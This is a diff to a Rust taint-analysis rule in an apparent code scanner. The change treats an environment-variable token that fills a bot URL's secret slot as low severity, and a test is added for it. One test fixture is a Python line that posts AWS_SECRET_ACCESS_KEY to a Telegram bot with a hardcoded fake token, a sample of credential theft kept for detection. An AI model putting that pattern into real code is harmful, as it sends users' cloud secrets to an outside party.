@@ -200,6 +200,20 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
     let endpoint = (sink == SinkKind::Network)
         .then(|| sink_endpoint(checker, call))
         .flatten();
+    // `API.format(token=os.environ['BOT_TOKEN'], …)`: one variable filling the secret slot of
+    // a bot or webhook URL is the user's own bot authenticating, not data sent to it.
+    let fills_bot_secret = sink == SinkKind::Network
+        && super::network::target_arg(call).is_some_and(|target| {
+            super::partial_text(checker, target)
+                .is_some_and(|url| super::suspicious_endpoint::secret_left_open(&url))
+                .then(|| checker.source_in(target))
+                .flatten()
+                .and_then(|index| checker.sources.get(index))
+                .is_some_and(|source| {
+                    matches!(source.kind, SourceKind::Environment | SourceKind::Secret)
+                        && source.label.starts_with("environment variable ")
+                })
+        });
     // `subprocess.run(['git', 'log', '-n', request.args['n']])`: a program the code chose, given
     // a visitor's value as one argument, is no shell for the visitor.
     let program_chosen = sink == SinkKind::Process
@@ -252,6 +266,9 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
                 context
             };
             let mut severity = flow_severity(&source, sink, judged_in, endpoint.is_some());
+            if fills_bot_secret && source.label.starts_with("environment variable ") {
+                severity = severity.min(0.1);
+            }
             // A visitor's value given to a program the code starts without a shell is one
             // argument of it (`['py-spy', 'record', '-d', seconds]`), not a command line.
             if source.label.starts_with(super::sources::WEB_REQUEST)
@@ -471,6 +488,15 @@ fn flow_tag(kind: SourceKind, sink: SinkKind) -> &'static str {
 mod tests {
     #![allow(clippy::indexing_slicing)]
     use crate::rules::testing::{findings, max_severity};
+
+    #[test]
+    fn a_token_filling_a_bot_urls_secret_slot_is_the_users_own_bot() {
+        let own = "import os, requests\nAPI = 'https://api.telegram.org/bot{token}/{method}'\ndef send(path):\n    token = os.environ['BACKUP_BOT_TOKEN']\n    requests.post(API.format(token=token, method='sendDocument'), files={'document': open(path, 'rb')})\n";
+        assert!(max_severity("p/pkg/__init__.py", own, "WH200") <= 0.1);
+        // A secret sent in the message to a bot whose token is written in the code is stolen.
+        let stolen = "import os, requests\ndef send():\n    requests.post('https://api.telegram.org/bot123456789:AAHfakefakefakefakefakefakefakefake1/sendMessage', data={'text': os.environ['AWS_SECRET_ACCESS_KEY']})\n";
+        assert!(max_severity("p/pkg/__init__.py", stolen, "WH200") >= 0.6);
+    }
 
     #[test]
     fn a_session_sends_what_its_cookies_and_headers_hold() {
